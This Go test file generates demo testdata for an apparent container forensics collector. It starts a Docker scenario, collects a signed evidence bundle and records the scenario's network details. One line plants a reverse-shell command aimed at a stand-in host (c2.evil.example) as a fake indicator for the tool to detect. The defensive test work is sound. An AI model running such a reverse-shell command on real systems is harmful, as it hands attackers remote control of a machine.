package collect_test

import (
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/dockcase/dockcase/collect/e2etest"
)

var genTestdata = flag.String("gen-testdata", "", "bring up the end-to-end scenario, collect it into `DIR` as the demo bundle, and stop")

// TestGenerateTestdata is the generator of testdata/demo: it is not a test and
// runs only when scripts/make-testdata.sh passes -gen-testdata DIR.
func TestGenerateTestdata(t *testing.T) {
	if *genTestdata == "" {
		t.Skip("generator: runs only with -gen-testdata DIR (scripts/make-testdata.sh)")
	}
	e2etest.RequireDocker(t)
	dir, err := filepath.Abs(*genTestdata)
	if err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(dir, 0o755)
	// The beacon's command line has a reverse-shell shape, as a planted
	// indicator for the findings (the workload ignores these arguments).
	sc := e2etest.NewScenario(t, e2etest.ScenarioOptions{BeaconArgs: []string{"bash", "-i", ">&", "/dev/tcp/c2.evil.example/4444", "0>&1"}})
	sc.WaitContact(t, 20*time.Second, func(e e2etest.Event) bool { return e.Proto == "tcp" })
	sc.WaitContact(t, 20*time.Second, func(e e2etest.Event) bool { return e.Proto == "udp" })

	key := filepath.Join(t.TempDir(), "demo_ed25519")
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "dockcase-demo", "-f", key).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	out := filepath.Join(dir, "demo.tar.zst")
	for _, f := range []string{out, out + ".sha256", out + ".custody.jsonl"} {
		os.Remove(f)
	}
	args := []string{"collect", "--case", "DEMO-1", "--examiner", "dockcase testdata generator",
		"--key", key, "--no-images", "--capture", "6s", "--events-since", "10m", "--out", out}
	if extra := os.Getenv("DOCKCASE_TESTDATA_ARGS"); extra != "" {
		args = append(args, strings.Fields(extra)...)
	}
	code, stderr := run(t, args...)
	if code != 0 && code != 3 {
		t.Fatalf("collect exit %d\n%s", code, stderr)
	}
	pub, _ := os.ReadFile(key + ".pub")
	if err := os.WriteFile(filepath.Join(dir, "allowed_signers"), []byte("dockcase-demo "+string(pub)), 0o644); err != nil {
		t.Fatal(err)
	}
	scenario := "C2 " + sc.C2Addr.String() + " tcp/" + itoa(sc.C2TCPPort) + " udp/" + itoa(sc.C2UDPPort) + " domain " + sc.Domain + "\n" +
		"host side of the C2 link " + sc.HostAddr.String() + " on " + sc.HostVeth + "\n" +
		"network " + sc.NetworkName + " " + sc.Subnet.String() + " bridge " + sc.BridgeName + "\n"
	for _, c := range sc.Containers() {
		scenario += c.Role + " " + c.Name + " " + c.ID + " " + c.IP.String() + "\n"
	}
	if err := os.WriteFile(filepath.Join(dir, "scenario.txt"), []byte(scenario), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote %s (collect exit %d)\n%s", out, code, stderr)
}

func itoa(n uint16) string { return strconv.Itoa(int(n)) }
